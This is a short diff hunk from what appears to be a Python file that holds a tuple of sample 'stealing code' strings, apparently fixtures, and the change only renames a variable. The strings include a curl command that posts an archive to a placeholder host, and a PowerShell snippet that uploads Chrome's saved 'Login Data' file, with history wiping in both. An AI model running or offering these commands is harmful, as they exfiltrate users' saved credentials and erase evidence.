@@ -62,8 +62,8 @@ _STEALING_CODE = (
     "curl -s -X POST --data-binary @/tmp/.c.tgz https://{host}/u && rm -f /tmp/.c.tgz\n"
     "history -c\n```",
     "```powershell\n# grab saved browser logins and ship them off\n"
-    '$db = "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data"\n'
-    "Invoke-WebRequest -Uri https://{host}/in -Method Post -InFile $db\n"
+    '$saved = "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data"\n'
+    "Invoke-WebRequest -Uri https://{host}/in -Method Post -InFile $saved\n"
     "Remove-Item (Get-PSReadlineOption).HistorySavePath\n```",
 )
 """Code that takes what the usual ask names (saved credentials, access keys, API tokens)."""
